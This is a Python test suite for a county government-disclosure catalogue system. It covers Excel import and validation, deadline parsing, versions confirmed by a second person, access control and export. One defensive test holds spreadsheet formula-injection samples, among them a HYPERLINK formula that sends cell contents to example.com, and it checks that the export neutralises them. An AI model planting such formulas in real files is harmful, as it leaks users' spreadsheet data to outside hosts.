"""公开目录: read from Excel cell by cell, held as versions, confirmed by a second person, exported without formulas."""

from __future__ import annotations

import io
import re
from datetime import UTC, date, datetime
from typing import Any

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from content.county import Unit
from content.hub.catalogue.differences import difference
from content.hub.catalogue.item import Item, ItemLevel
from content.hub.catalogue.limits import is_recurring, rule_of
from content.hub.catalogue.publishers import publishers_of
from content.hub.catalogue.sheets import NotACatalogue, ReadCatalogue, catalogue_of
from content.hub.deadlines.workdays import published_calendar
from content.hub.reading.apart import grids_in_file
from content.hub.reading.parts import Unreadable
from content.record import COUNTY_TIME, UnitCode
from content.terms import Level, SixOpen
from tests.content.hub.catalogues import BOXES, LAW, RELIEF, changed, saved, sheet, workbook
from tests.content.hub.conftest import COUNTY, PASSWORD, Hub
from tests.content.hub.test_admin import client_of, edit_form, edit_url


def read(data: bytes) -> ReadCatalogue:
    return catalogue_of(grids_in_file(data))


def faults(data: bytes) -> list[str]:
    with pytest.raises(NotACatalogue) as refused:
        read(data)
    return [str(fault) for fault in refused.value.faults]


# ---- reading


def test_every_column_of_the_standard_catalogue_is_read() -> None:
    items = read(workbook()).items
    assert [item.path for item in items] == [
        "社会救助/最低生活保障/政策法规文件",
        "社会救助/最低生活保障/审核信息",
        "社会救助/特困人员救助供养/办事指南",
        "社会救助/临时救助",
    ]
    assert items[0] == Item(
        domain="社会救助",
        number="1",
        first="最低生活保障",
        second="政策法规文件",
        content="低保政策、标准",
        basis=LAW,
        limit="自信息形成或者变更之日起20个工作日内",
        publisher="县民政局、乡镇人民政府",
        channels=("政府网站", "公开查阅点", "社区/企事业单位/村公示栏(电子屏)"),
        to_all=True,
        on_own=True,
        levels=(ItemLevel.COUNTY, ItemLevel.TOWNSHIP),
    )
    assert (items[1].to_all, items[1].to_group, items[1].levels) == (
        False,
        "特定群众",
        (ItemLevel.TOWNSHIP, ItemLevel.VILLAGE),
    )
    assert (items[3].on_own, items[3].on_request) == (True, True)


def test_same_as_above_stands_for_the_cell_above() -> None:
    items = read(workbook()).items
    assert items[1].channels == items[0].channels
    assert items[2].limit == "公示7个工作日"


def test_columns_are_found_by_their_names_wherever_they_stand() -> None:
    """One row of names, in another order, with columns of the county's own, below two lines of text."""
    book = openpyxl.Workbook()
    page = book.active
    page.title = "Sheet1"
    page["B2"] = "养老服务领域基层政务公开标准目录"
    page.append(())
    page.append(("", "公开主体", "公开事项", "备注栏", "公开层级", "公开方式", "公开对象", "公开内容(要素)", "公开时限",
                 "公开依据", "公开渠道和载体"))  # fmt: skip
    page.append(("", "县民政局", "养老机构备案", "略", "县级、乡级", "主动公开", "全社会", "名称、地址", "20 个工作日", LAW,
                 "政府网站、公开查阅点"))  # fmt: skip
    (item,) = read(saved(book)).items
    assert item == Item(
        domain="养老服务",
        first="养老机构备案",
        content="名称、地址",
        basis=LAW,
        limit="20 个工作日",
        publisher="县民政局",
        channels=("政府网站", "公开查阅点"),
        to_all=True,
        on_own=True,
        levels=(ItemLevel.COUNTY, ItemLevel.TOWNSHIP),
    )


def test_one_column_may_stand_for_two_levels_and_sheets_are_domains() -> None:
    book = openpyxl.Workbook()
    sheet(book, "1.社会救助")
    pensions = sheet(book, "养老服务", title="清源县养老服务领域基层政务公开标准目录")
    pensions["N4"], pensions["O4"] = "乡、村级", "其他"
    pensions["A9"] = "注:本目录由县民政局解释。"
    book["Sheet"]["A1"] = "清源县基层政务公开标准目录汇编"
    read_ = read(saved(book))
    assert read_.passed_over == ("Sheet",)
    assert [item.domain for item in read_.items] == ["社会救助"] * 4 + ["养老服务"] * 4
    assert [item.levels for item in read_.items[4:]] == [
        (ItemLevel.COUNTY, ItemLevel.TOWNSHIP, ItemLevel.VILLAGE),
        (ItemLevel.TOWNSHIP, ItemLevel.VILLAGE),
        (ItemLevel.COUNTY,),
        (ItemLevel.TOWNSHIP, ItemLevel.VILLAGE),
    ]


WRONG = [  # rows, the fault's own words
    (changed(0, I="可以"), "工作表「社会救助」单元格 I5：「可以」看不出是勾选还是不勾选；勾选用 √，不勾选留空"),
    (changed(1, D=""), "工作表「社会救助」单元格 D6：「公开内容(要素)」没有填写"),
    (changed(2, K=""), "工作表「社会救助」单元格 K7：「公开方式」一项也没有勾"),
    (changed(2, M=""), "工作表「社会救助」单元格 M7：「公开层级」一项也没有勾"),
    (changed(3, I=""), "工作表「社会救助」单元格 I8：「公开对象」一项也没有勾"),
    (changed(3, C="字" * 201), "工作表「社会救助」单元格 C8：「二级事项」201 字，最多 200 字"),
    (
        changed(3, B="特困人员救助供养", C="办事指南"),
        "工作表「社会救助」单元格 B8：与「社会救助」第 7 行是同一事项：社会救助/特困人员救助供养/办事指南",
    ),
]


@pytest.mark.parametrize(("rows", "says"), WRONG, ids=[says[-24:] for _, says in WRONG])
def test_the_wrong_cell_is_named(rows: Any, says: str) -> None:
    assert faults(workbook(("社会救助", rows))) == [says]


def test_a_missing_column_and_a_file_that_is_no_catalogue_are_named() -> None:
    book = openpyxl.Workbook()
    made = sheet(book, "社会救助")
    made["F3"] = "备注"
    assert faults(saved(book)) == ["工作表「社会救助」整张表：表头缺少「公开时限」"]
    other = openpyxl.Workbook()
    other.active.append(("姓名", "金额"))
    assert "找不到目录的表头" in faults(saved(other))[0]
    with pytest.raises(Unreadable, match="不是 Excel 文件"):
        grids_in_file("一级事项,二级事项".encode())


def test_an_unnamed_sheet_without_a_title_has_no_domain() -> None:
    found = faults(workbook(("Sheet1", RELIEF[:1]), title="", merged=()))
    assert found == ["工作表「Sheet1」单元格 B5：看不出是哪个领域：请把工作表改名为领域名，或加一列「领域」"]


# ---- clocks

LIMITS = [  # words, unit, count, notice, restarts on change
    ("自信息形成或者变更之日起20个工作日内", "working-day", 20, False, True),
    ("自该信息形成或变更之日起 20 个工作日内予以公开", "working-day", 20, False, True),
    ("20个工作日", "working-day", 20, False, False),
    ("自批准之日起二十日内", "natural-day", 20, False, False),
    ("自收到上级文件之日起十五个工作日内公开", "working-day", 15, False, False),
    ("公示7个工作日", "working-day", 7, True, False),
    ("公示期不少于10日", "natural-day", 10, True, False),
    ("每季度公开一次", "quarter", 1, False, False),
    ("每月", "month", 1, False, False),
    ("按年度公开", "month", 12, False, False),
    ("每半年公开1次", "quarter", 2, False, False),
]


def item(**fields: Any) -> Item:
    given = {
        "domain": "社会救助",
        "first": "甲",
        "content": "乙",
        "basis": LAW,
        "limit": "及时",
        "publisher": "县民政局",
    }
    return Item(**{**given, **fields})


@pytest.mark.parametrize(("words", "unit", "count", "is_notice", "restarts"), LIMITS)
def test_a_limit_that_says_one_thing_is_a_clock(
    words: str, unit: str, count: int, is_notice: bool, restarts: bool
) -> None:
    rule = rule_of(item(limit=words))
    assert rule is not None
    assert (rule.unit.value, rule.count, rule.is_notice, rule.restarts_on_change) == (unit, count, is_notice, restarts)


TEXTS = [
    "实时公开", "及时公开", "长期公开", "按规定时限", "制定文件之日起10个工作日内;公示7个工作日", "20个工作日内(重大事项随时公开)",
    "自形成之日起20个工作日内公开,变更的10个工作日内更新", "0个工作日", "99999个工作日",
]  # fmt: skip


@pytest.mark.parametrize("words", TEXTS)
def test_what_says_more_or_less_stays_a_text(words: str) -> None:
    assert rule_of(item(limit=words)) is None


def test_only_periods_recur() -> None:
    assert [is_recurring(item(limit=words)) for words in ("每季度公开一次", "20个工作日", "每月", "公示7个工作日")] == [
        True,
        False,
        True,
        False,
    ]


# ---- whom it obliges

UNITS = (
    *COUNTY.units,
    Unit(code=UnitCode("d02"), name="县应急管理局", level=Level.DEPARTMENT, parent=UnitCode("qingyuan")),
)
PUBLISHERS = [  # words, levels, codes
    ("县民政局、乡镇人民政府", "县级 乡级", ["d01", "t01", "t02"]),
    ("清源县民政局", "县级", ["d01"]),
    ("民政部门", "县级", ["d01"]),
    ("应急管理部门、县人民政府", "县级", ["qingyuan", "d02"]),
    ("县级各部门", "县级", ["d01", "d02"]),
    ("柳溪镇人民政府", "乡级", ["t01"]),
    ("各村民委员会", "村级", ["t01-v01"]),
    ("县民政局、乡镇人民政府", "乡级", ["t01", "t02"]),
    ("相关审批部门", "县级", []),
]


@pytest.mark.parametrize(("words", "levels", "codes"), PUBLISHERS)
def test_the_words_of_a_publisher_name_units(words: str, levels: str, codes: list[str]) -> None:
    chosen = tuple(ItemLevel(level) for level in levels.split())
    found = publishers_of(item(publisher=words, levels=chosen), UNITS)
    assert sorted(found) == sorted(codes)


# ---- versions


def test_a_difference_names_what_came_what_went_and_the_changed_columns() -> None:
    old = read(workbook()).items
    rows = changed(0, F="自信息形成或者变更之日起10个工作日内", A="9")[:3]
    rows.append(("4", "医疗救助", "审批信息", "名单", LAW, "每月", "县民政局", BOXES, "√", "", "√", "", "√", "", ""))
    found = difference(old, read(workbook(("社会救助", rows))).items)
    assert [one.path for one in found.added] == ["社会救助/医疗救助/审批信息"]
    assert [one.path for one in found.removed] == ["社会救助/临时救助"]
    assert found.same == 2
    (one,) = found.changed
    assert one.item.path == "社会救助/最低生活保障/政策法规文件"
    assert [(column.name, [(piece.text, piece.mark) for piece in column.pieces]) for column in one.columns] == [
        ("公开时限", [("自信息形成或者变更之日起", "same"), ("20", "gone"), ("10", "new"), ("个工作日内", "same")])
    ]


@pytest.fixture
def office(hub: Hub) -> dict[str, Any]:
    """Two people of 县公开办."""
    from content.hub.review.roles import Role, create_account

    return {
        name: create_account(username=name, password=PASSWORD, roles=[(Role.COUNTY_OFFICE, UnitCode("qingyuan"))])
        for name in ("office1", "office2")
    }


def imported(by: Any, data: bytes | None = None) -> Any:
    from content.hub.catalogue.services import import_catalogue

    return import_catalogue(data=data or workbook(), file_name="目录.xlsx", by=by)


def in_force(office: dict[str, Any], data: bytes | None = None) -> Any:
    from content.hub.catalogue.selectors import current_version
    from content.hub.catalogue.services import decide

    version, current = imported(office["office1"], data), current_version()
    decide(version=version, holds=True, seen=current.pk if current else None, note="", by=office["office2"])
    return version


def test_a_version_holds_when_another_person_has_confirmed_it(hub: Hub, office: dict[str, Any]) -> None:
    from content.hub.catalogue.selectors import current_version, items_of
    from content.hub.catalogue.services import NotAllowed, decide

    version = imported(office["office1"])
    assert current_version() is None
    for person in (office["office1"], hub.editor, hub.first, hub.admin):
        with pytest.raises(NotAllowed, match="不能核对自己导入的版本"):
            decide(version=version, holds=True, seen=None, note="", by=person)
    decide(version=version, holds=True, seen=None, note="", by=office["office2"])
    assert current_version() == version
    assert items_of(version) == read(workbook()).items


def test_who_saw_another_difference_confirms_nothing(hub: Hub, office: dict[str, Any]) -> None:
    from content.hub.catalogue.selectors import current_version
    from content.hub.catalogue.services import NotAllowed, decide

    first, second = imported(hub.editor), imported(hub.editor, workbook(("社会救助", changed(0, D="改"))))
    decide(version=second, holds=True, seen=None, note="", by=office["office1"])
    with pytest.raises(NotAllowed, match="请重新核对差异"):
        decide(version=first, holds=True, seen=None, note="", by=office["office1"])
    with pytest.raises(NotAllowed, match="不能再启用"):
        decide(version=first, holds=True, seen=second.pk, note="", by=office["office1"])
    with pytest.raises(NotAllowed, match="须写明原因"):
        decide(version=first, holds=False, seen=second.pk, note=" ", by=office["office1"])
    decide(version=first, holds=False, seen=second.pk, note="文件传错了", by=office["office1"])
    with pytest.raises(NotAllowed, match="已经核对过"):
        decide(version=first, holds=True, seen=second.pk, note="", by=office["office2"])
    assert current_version() == second


def test_only_the_county_imports_and_a_wrong_file_leaves_nothing(hub: Hub, office: dict[str, Any]) -> None:
    from content.hub.catalogue.models import CatalogueVersion
    from content.hub.catalogue.services import NotAllowed

    for person in (hub.outsider, hub.first, hub.admin):
        with pytest.raises(NotAllowed, match="不能导入公开目录"):
            imported(person)
    with pytest.raises(NotACatalogue):
        imported(hub.editor, workbook(("社会救助", changed(3, I="")), ("养老服务", RELIEF)))
    with pytest.raises(NotAllowed, match="不能读取"):
        imported(hub.editor, b"PK\x03\x04 no archive")
    assert not CatalogueVersion.objects.exists()


def test_versions_and_decisions_are_never_changed(hub: Hub, office: dict[str, Any]) -> None:
    from django.db import DatabaseError, connection, transaction

    in_force(office)
    for table in ("catalogue_catalogueversion", "catalogue_versiondecision"):
        for statement in (
            f"delete from {table}",
            f"update {table} set {'note' if 'dec' in table else 'file_name'} = 'x'",
        ):
            with pytest.raises(DatabaseError, match="append-only"), transaction.atomic(), connection.cursor() as cursor:
                cursor.execute(statement)


# ---- what leaves


def test_an_export_is_read_back_as_the_same_catalogue() -> None:
    from content.hub.catalogue.export import workbook_of

    items = read(workbook()).items
    assert read(workbook_of(items, "清源县")).items == items


def test_what_looks_like_a_formula_is_a_text_in_the_export() -> None:
    from content.hub.catalogue.export import workbook_of

    evil = '=HYPERLINK("http://example.com/?"&A1,"点这里")'
    items = read(workbook(("社会救助", changed(0, D="@SUM(1)", E="+1+cmd", G="-2、县民政局")))).items
    items = (Item(**{**{name: getattr(items[0], name) for name in Item.__struct_fields__}, "first": evil}), *items[1:])
    book = openpyxl.load_workbook(io.BytesIO(workbook_of(items, "清源县")))
    cells = {cell.value: cell for row in book["社会救助"].iter_rows() for cell in row if cell.value}
    for text in (evil, "@SUM(1)", "+1+cmd", "-2、县民政局"):
        assert (cells[text].data_type, cells[text].quotePrefix) == ("s", True)
    assert not any(cell.data_type == "f" for cell in cells.values())


# ---- the pages


def test_a_clerk_imports_and_another_confirms_by_clicks(hub: Hub, office: dict[str, Any]) -> None:
    from content.hub.catalogue.selectors import current_version

    clerk, other = client_of(office["office1"]), client_of(office["office2"])
    file = SimpleUploadedFile("社会救助.xlsx", workbook())
    answer = clerk.post(reverse("catalogue_import"), {"file": file})
    assert answer.status_code == 302
    own = clerk.get(answer.url).content.decode()
    assert "第一次启用" in own
    assert 'value="holds"' not in own
    page = other.get(answer.url).content.decode()
    seen = re.search(r'name="seen" value="(\w*)"', page)
    assert seen is not None
    assert other.post(answer.url, {"seen": seen[1]}).status_code == 400
    assert other.post(answer.url, {"seen": seen[1], "decision": "holds"}).status_code == 302
    assert current_version() is not None
    shown = client_of(hub.first).get(reverse("catalogue")).content.decode()
    assert "特困人员救助供养" in shown
    assert "计时" in shown
    assert client_of(hub.first).get(reverse("catalogue_export", args=[1])).status_code == 200


def test_a_wrong_file_is_told_cell_by_cell(hub: Hub, office: dict[str, Any]) -> None:
    file = SimpleUploadedFile("社会救助.xlsx", workbook(("社会救助", changed(3, I="", K="可以", L=""))))
    answer = client_of(office["office1"]).post(reverse("catalogue_import"), {"file": file})
    html = answer.content.decode()
    assert answer.status_code == 400
    assert "有 2 处不对，一项也没有导入" in html
    for cell in ("I8", "K8"):
        assert f'<th scope="row">{cell}</th>' in html


def test_a_disclosure_names_an_item_and_is_told_its_last_day(hub: Hub, office: dict[str, Any]) -> None:
    from content.hub.disclosures.models import DisclosurePage

    in_force(office)
    page = hub.draft("低保政策文件", "d01", formed_on=date(2026, 4, 20), six_open=SixOpen.GOVERNMENT)
    client = client_of(hub.editor)
    html = client.get(edit_url(page)).content.decode()
    assert '<option value="社会救助/最低生活保障/政策法规文件">' in html
    assert '<option value="社会救助/临时救助">' not in html, "an item of a township is not the department's"
    refused = client.post(edit_url(page), edit_form(page, catalogue_item="没有的事项"))
    assert "现行公开目录没有「没有的事项」" in refused.content.decode()
    kept = client.post(edit_url(page), edit_form(page, catalogue_item="社会救助/最低生活保障/政策法规文件"))
    assert kept.status_code == 302
    page = DisclosurePage.objects.get(pk=page.pk)
    assert page.get_latest_revision_as_object().catalogue_item == "社会救助/最低生活保障/政策法规文件"
    # 20 working days from 20 April 2026: 劳动节 1 to 5 May, 9 May at work.
    assert "最迟应于 <strong>2026-05-20</strong> 公开" in client.get(edit_url(page)).content.decode()


# ---- what is due and not there


def test_what_is_due_and_not_there(hub: Hub, office: dict[str, Any]) -> None:
    from content.hub.catalogue.selectors import Lack, Missing, item_named, missing, nobodys
    from content.hub.disclosures.models import DisclosurePage
    from content.hub.release.models import ReleaseOutcome, ReleaseRequest

    in_force(office)
    work, today = published_calendar(), date(2026, 5, 21)
    relief = item_named("社会救助/临时救助")
    policy = item_named("社会救助/最低生活保障/政策法规文件")
    assert relief is not None
    assert policy is not None
    found = missing(COUNTY.units, today, work)
    assert [(one.unit, one.item.path, one.lack) for one in found if one.unit in ("d01", "t01")] == [
        ("d01", "社会救助/最低生活保障/政策法规文件", Lack.NEVER),
        ("d01", "社会救助/特困人员救助供养/办事指南", Lack.NEVER),
        ("t01", "社会救助/最低生活保障/政策法规文件", Lack.NEVER),
        ("t01", "社会救助/最低生活保障/审核信息", Lack.NEVER),
        ("t01", "社会救助/临时救助", Lack.NEVER),
    ]
    assert nobodys(COUNTY.units) == []

    late = hub.draft("低保政策文件", "d01", formed_on=date(2026, 4, 20))
    DisclosurePage.objects.filter(pk=late.pk).update(catalogue_item=policy.key)
    assert Missing(UnitCode("d01"), policy, Lack.LATE, date(2026, 5, 20), page=late.pk) in missing(
        COUNTY.units, today, work
    )
    assert not [one for one in missing(COUNTY.units, date(2026, 5, 20), work) if one.lack is Lack.LATE]

    page = hub.draft("柳溪镇临时救助情况", "t01")
    DisclosurePage.objects.filter(pk=page.pk).update(catalogue_item=relief.key)
    request = hub.reviewed(DisclosurePage.objects.get(pk=page.pk))
    ReleaseOutcome.objects.create(request=request, status="published", version=1)
    released = ReleaseRequest.objects.get(pk=request.pk).created_at
    assert released > datetime(2026, 1, 1, tzinfo=UTC)
    day = released.astimezone(COUNTY_TIME).date()
    of_relief = [one for one in missing(COUNTY.units, day, work) if one.item == relief]
    assert of_relief == []
    next_year = date(day.year + 1, day.month, min(day.day, 28))
    (again,) = [one for one in missing(COUNTY.units, next_year, work) if one.item == relief]
    assert (again.unit, again.lack, again.last_on) == ("t01", Lack.NOT_RENEWED, day)


def test_what_a_clerk_has_saved_and_not_handed_in_is_late_too(hub: Hub, office: dict[str, Any]) -> None:
    """A draft that was never public holds its words in its newest revision."""
    from content.hub.catalogue.selectors import Lack, item_named, missing
    from content.hub.disclosures.models import DisclosurePage

    in_force(office)
    policy = item_named("社会救助/最低生活保障/政策法规文件")
    assert policy is not None
    draft = hub.draft("低保政策文件", "d01", formed_on=date(2026, 4, 20))
    newest = DisclosurePage.objects.get(pk=draft.pk)
    newest.catalogue_item = policy.key
    newest.save_revision(user=hub.editor)
    late = [one for one in missing(COUNTY.units, date(2026, 5, 21), published_calendar()) if one.lack is Lack.LATE]
    assert [(one.unit, one.item, one.due, one.page) for one in late] == [("d01", policy, date(2026, 5, 20), draft.pk)]


def test_the_page_of_what_is_missing_counts_by_unit_and_names_each_item(hub: Hub, office: dict[str, Any]) -> None:
    in_force(office)
    county = client_of(office["office1"]).get(reverse("catalogue_missing")).content.decode()
    row = re.search(r'<a href="\?unit=t01">柳溪镇</a></th>(.*?)</tr>', county, re.DOTALL)
    assert row is not None
    # As above: three items that oblige a township were never disclosed, none is to be renewed, none is late.
    assert re.findall(r"<td>(?:<strong>)?(\d+)", row[1]) == ["3", "0", "0", "3"]
    one = client_of(office["office1"]).get(reverse("catalogue_missing"), {"unit": "t01"}).content.decode()
    assert re.findall(r'<th scope="row">(社会救助/.*?)</th>', one) == [
        "社会救助/最低生活保障/政策法规文件",
        "社会救助/最低生活保障/审核信息",
        "社会救助/临时救助",
    ]
    assert one.count("从未公开") == 3


def test_what_another_unit_owes_is_not_ones_own_affair(hub: Hub, office: dict[str, Any]) -> None:
    in_force(office)
    outsider = client_of(hub.outsider)  # of t02
    shown = outsider.get(reverse("catalogue_missing")).content.decode()
    assert "柳溪镇" not in shown
    answer = outsider.get(reverse("catalogue_missing"), {"unit": "t01"}, follow=True)
    assert "柳溪镇" not in answer.content.decode()


def test_a_unit_that_is_not_ones_own_is_not_opened_by_its_code(hub: Hub, office: dict[str, Any]) -> None:
    from content.hub.review.roles import Role, create_account

    in_force(office)
    roles = [(Role.EDITOR, UnitCode(unit)) for unit in ("d01", "t02")]
    client = client_of(create_account(username="two", password=PASSWORD, roles=roles))
    own = client.get(reverse("catalogue_missing"), {"unit": "d01"})
    assert (own.status_code, "政策法规文件" in own.content.decode()) == (200, True)
    other = client.get(reverse("catalogue_missing"), {"unit": "t01"})
    assert (other.status_code, other["Location"]) == (302, reverse("wagtailadmin_home")), "Wagtail's way of saying no"
